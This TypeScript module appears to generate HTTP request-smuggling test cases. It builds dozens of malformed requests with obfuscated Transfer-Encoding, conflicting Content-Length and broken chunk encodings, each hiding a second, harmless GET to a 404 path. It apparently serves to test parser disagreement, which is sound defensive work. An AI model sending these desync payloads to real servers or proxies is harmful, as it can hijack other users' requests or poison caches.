// Requests that two parsers may end in different places. Each carries a second request where one of them might find it.
// After J. Kettle, "HTTP Desync Attacks" (2019), the HTTP Garden, and RFC 9112, 6.3, 7.1, 11.2.

/** A case; its number is part of its addresses. */
interface SmugglingCase {
  readonly what: string;
  readonly bytes: (number: number) => Buffer;
}

/** The paths of a case’s requests; they are 404, and the server’s log has them. */
const pathsOf = (number: number) => ({ main: `/api/companies/main-${number}`, hidden: `/api/companies/hidden-${number}` });

const name = 'cranes.example';
const hiddenRequest = (number: number): string => `GET ${pathsOf(number).hidden} HTTP/1.1\r\nHost: ${name}\r\n\r\n`;

interface Form {
  readonly start?: string;
  readonly lines: readonly string[];
  readonly body: (hidden: string) => string;
}

/** @param lines `{length}` is replaced by the length of the body. */
const message =
  ({ start = 'POST {path} HTTP/1.1', lines, body }: Form) =>
  (number: number): Buffer => {
    const content = body(hiddenRequest(number));
    const head = [start.replace('{path}', pathsOf(number).main), `Host: ${name}`, 'Content-Type: application/json', ...lines, '', ''];
    return Buffer.from(head.join('\r\n').replaceAll('{length}', String(content.length)) + content, 'latin1');
  };

const chunkOf = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`;
const afterLastChunk = (hidden: string): string => `0\r\n\r\n${hidden}`;

const chunkedForms = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: chunked ',
  'Transfer-Encoding:\r\n chunked',
  'X-First: a\r\n Transfer-Encoding: chunked',
  ' Transfer-Encoding: chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: \u000bchunked',
  'Transfer-Encoding: chunked\u0000',
  'Transfer-Encoding\u0000: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'X-First: a\nTransfer-Encoding: chunked',
  'X-First: a\rTransfer-Encoding: chunked',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
];

const lengthForms = [
  'Content-Length: {length}\r\nContent-Length: {length}',
  'Content-Length: 0\r\nContent-Length: {length}',
  'Content-Length: {length}\r\nContent-Length: 0',
  'Content-Length: {length}, {length}',
  'Content-Length: 0, {length}',
  'Content-Length: +{length}',
  'Content-Length: -{length}',
  'Content-Length: 0{length}',
  'Content-Length: 0x{length}',
  'Content-Length: {length}.0',
  'Content-Length: {length} 0',
  'Content-Length: {length}\u0000',
  'Content-Length: \u000b{length}',
  'Content-Length : {length}',
  'Content-Length:\r\n {length}',
  'Content_Length: {length}',
  'Content-Length:',
  'Content-Length: 18446744073709551616',
  'X-First: a\nContent-Length: {length}',
  'X-First: a\rContent-Length: {length}',
  'Connection: Content-Length\r\nContent-Length: {length}',
  'Expect: 100-continue\r\nContent-Length: {length}',
  'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: {length}',
];

const chunkForms: readonly (readonly [what: string, body: (hidden: string) => string])[] = [
  ['an extension of a chunk', (hidden) => `${hidden.length.toString(16)};a=b\r\n${hidden}\r\n0\r\n\r\n`],
  ['an extension with a bare LF', (hidden) => `5;a\nhello\r\n0\r\n\r\n${hidden}`],
  ['an extension with a quoted line end', (hidden) => `5;a="\r\n"\r\nhello\r\n0\r\n\r\n${hidden}`],
  ['an extension of 20 KB', (hidden) => `5;a=${'b'.repeat(20_000)}\r\nhello\r\n0\r\n\r\n${hidden}`],
  ['bare LF after the size', (hidden) => `5\nhello\r\n0\r\n\r\n${hidden}`],
  ['bare LF after the data', (hidden) => `5\r\nhello\n0\r\n\r\n${hidden}`],
  ['bare LF at the end', (hidden) => `5\r\nhello\r\n0\n\n${hidden}`],
  ['bare CR after the size', (hidden) => `5\rhello\r\n0\r\n\r\n${hidden}`],
  ['two bytes instead of a line end after the data', (hidden) => `5\r\nhelloXX0\r\n\r\n${hidden}`],
  ['nothing after the data', (hidden) => `5\r\nhello0\r\n\r\n${hidden}`],
  ['a size with 0x', (hidden) => `0x5\r\nhello\r\n0\r\n\r\n${hidden}`],
  ['a size with +', (hidden) => `+5\r\nhello\r\n0\r\n\r\n${hidden}`],
  ['a size below zero', (hidden) => `-5\r\nhello\r\n0\r\n\r\n${hidden}`],
  ['a size with a blank before', (hidden) => ` 5\r\nhello\r\n0\r\n\r\n${hidden}`],
  ['a size with a blank behind', (hidden) => `5 \r\nhello\r\n0\r\n\r\n${hidden}`],
  ['a size with an underscore', (hidden) => `0_5\r\nhello\r\n0\r\n\r\n${hidden}`],
  ['a size beyond 64 bits', (hidden) => `10000000000000005\r\nhello\r\n0\r\n\r\n${hidden}`],
  ['a size of many zeros', (hidden) => `${'0'.repeat(40)}5\r\nhello\r\n0\r\n\r\n${hidden}`],
  ['no size', (hidden) => `\r\nhello\r\n0\r\n\r\n${hidden}`],
  ['a last chunk of two zeros', (hidden) => `5\r\nhello\r\n00\r\n\r\n${hidden}`],
  ['a trailer that is a length', (hidden) => `5\r\nhello\r\n0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`],
  ['a trailer without a colon', (hidden) => `5\r\nhello\r\n0\r\nGET / HTTP/1.1\r\n\r\n${hidden}`],
];

const startForms: readonly (readonly [what: string, form: Form])[] = [
  ['GET with a body', { start: 'GET {path} HTTP/1.1', lines: ['Content-Length: {length}'], body: (hidden) => hidden }],
  ['GET with chunks', { start: 'GET {path} HTTP/1.1', lines: ['Transfer-Encoding: chunked'], body: chunkOf }],
  ['HEAD with a body', { start: 'HEAD {path} HTTP/1.1', lines: ['Content-Length: {length}'], body: (hidden) => hidden }],
  ['OPTIONS with a body', { start: 'OPTIONS {path} HTTP/1.1', lines: ['Content-Length: {length}'], body: (hidden) => hidden }],
  [
    'HTTP/1.0 with chunks',
    { start: 'POST {path} HTTP/1.0', lines: ['Connection: keep-alive', 'Transfer-Encoding: chunked'], body: chunkOf },
  ],
  [
    'HTTP/1.0 that is kept',
    { start: 'POST {path} HTTP/1.0', lines: ['Connection: keep-alive', 'Content-Length: {length}'], body: (hidden) => hidden },
  ],
  ['HTTP/1.2', { start: 'POST {path} HTTP/1.2', lines: ['Content-Length: {length}'], body: (hidden) => hidden }],
  [
    'a request line with a second version',
    { start: 'POST {path} HTTP/1.1 HTTP/1.1', lines: ['Content-Length: {length}'], body: (hidden) => hidden },
  ],
  ['an absolute form', { start: `POST http://${name}{path} HTTP/1.1`, lines: ['Content-Length: {length}'], body: (hidden) => hidden }],
  [
    'a line end in the path',
    { start: 'POST {path}%0d%0aContent-Length:%200 HTTP/1.1', lines: ['Content-Length: {length}'], body: (hidden) => hidden },
  ],
  [
    'bare LF after the request line',
    { start: 'POST {path} HTTP/1.1\nX-First: a', lines: ['Content-Length: {length}'], body: (hidden) => hidden },
  ],
];

export const smugglingCases: readonly SmugglingCase[] = [
  ...chunkedForms.flatMap((form) => [
    { what: `${form}, and a length of all`, bytes: message({ lines: ['Content-Length: {length}', form], body: afterLastChunk }) },
    { what: `${form}, and a length of 4`, bytes: message({ lines: [form, 'Content-Length: 4'], body: chunkOf }) },
    { what: form, bytes: message({ lines: [form], body: chunkOf }) },
  ]),
  ...lengthForms.map((form) => ({ what: form, bytes: message({ lines: [form], body: (hidden) => hidden }) })),
  ...chunkForms.map(([what, body]) => ({ what, bytes: message({ lines: ['Transfer-Encoding: chunked'], body }) })),
  ...startForms.map(([what, form]) => ({ what, bytes: message(form) })),
];
